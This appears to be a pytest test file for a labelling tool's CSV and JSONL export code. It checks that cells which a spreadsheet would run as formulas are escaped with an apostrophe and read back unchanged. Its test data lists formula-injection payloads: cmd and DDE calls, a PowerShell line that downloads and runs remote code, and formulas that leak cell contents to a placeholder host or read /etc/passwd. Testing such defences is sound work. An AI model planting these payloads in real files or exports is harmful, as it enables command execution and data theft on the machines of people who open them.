"""What a spreadsheet would run as a formula or a command is a text in every table that this program writes."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from desktop_al.core.csv_cells import own_text, safe_cell
from desktop_al.loop.csv_file import csv_text
from desktop_al.media.export_rows import Entry, Export, ExportRow, ResultRow
from desktop_al.media.export_tables import write_csv, write_jsonl, write_results
from desktop_al.media.label_tables import read_label_table
from tests.media.made_exports import export_of

#: Dynamic Data Exchange and its kin: each ran a program, or sent a sheet elsewhere, in some version of some program.
DDE = (
    "=cmd|'/C calc'!A0",
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("http://example.invalid?leak="&A1&A2,"Error")',
    '=WEBSERVICE(CONCATENATE("http://example.invalid/",A1))',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a/a10")',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/C calc";"x")',
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n=cmd|' /C calc'!A0",
    "＝cmd|' /C calc'!A0",
    "'=cmd|' /C calc'!A0",
    "''=1+1",
)
HARMLESS = ("", "'", "'quoted'", "a=b", "a-b", "it's", " =1", "mild", "5", "é+")
DANGEROUS = "=+-@\t\r\n＝＋－＠"

ROW = ExportRow(
    1, "a.png", "Ann", "mild", "labelled", "2024-01-02T03:04:05.678Z", "", "", None, "", "", 0.5, "", 1, "", "00", 1
)


def cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", DDE + HARMLESS)
def test_the_apostrophe_can_be_taken_away_again(text: str) -> None:
    cell = safe_cell(text)
    assert cell[:1] not in tuple(DANGEROUS)
    assert own_text(cell) == text
    assert (cell != text) == (text in DDE)


def exported(rows: list[ExportRow], raw: bool = False) -> Export:
    """Annotations with one class each, whatever its name holds."""
    return replace(export_of([], raw=raw), entries=lambda: iter([Entry(row, (row.label,)) for row in rows]))


def test_every_table_that_is_written_is_safe(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    rows = [replace(ROW, sample=text, annotator=text, label=text, comment=text, chosen_for=text) for text in DDE]
    write_csv(exported(rows), out)
    tables = [cells(out)]
    results = [ResultRow(text, text, "single", 1, 1, text, text, text, "no", "2024") for text in DDE]
    write_results(results, out)
    tables.append(cells(out))
    tables.append(list(csv.reader(io.StringIO(csv_text([["x"], *([text, -1.5] for text in DDE)]), newline=""))))
    for table in tables:
        assert len(table) == len(DDE) + 1
        found = [cell for row in table for cell in row if cell.startswith(tuple(DANGEROUS))]
        # Figures stay figures.
        assert set(found) <= {"-1.5"}
        assert table[1][0].startswith("'=cmd") or table[1][1].startswith("'=cmd")
    write_csv(exported(rows, raw=True), out)
    assert cells(out)[1][1] == DDE[0]
    write_results(results, out, True)
    assert cells(out)[1][0] == DDE[0]


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_an_export_is_imported_as_what_it_was(tmp_path: Path, ending: str) -> None:
    names = [text for text in DDE if text.isprintable()]
    out = tmp_path / f"t.{ending}"
    rows = [replace(ROW, sample=name, label=name, annotator=name) for name in names]
    {"csv": write_csv, "jsonl": write_jsonl}[ending](exported(rows), out)
    table = read_label_table(out)
    assert [(row.sample, row.label, row.annotator) for row in table.rows] == [
        (name.strip(), " ".join(name.split()), " ".join(name.split())) for name in names
    ]
    assert not table.broken


def test_results_are_imported_as_what_they_were(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    write_results([ResultRow(n, n, "single", 1, 1, "", "", "", "no", "2024") for n in ("=a.png", "-b", "c")], out)
    assert [(row.sample, row.label) for row in read_label_table(out).rows] == [("=a.png",) * 2, ("-b",) * 2, ("c",) * 2]


def test_apostrophes_of_other_tables_stay(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("path,label\n'=a.png,'=b\n")
    (row,) = read_label_table(tmp_path / "t.csv").rows
    assert (row.sample, row.label) == ("'=a.png", "'=b")
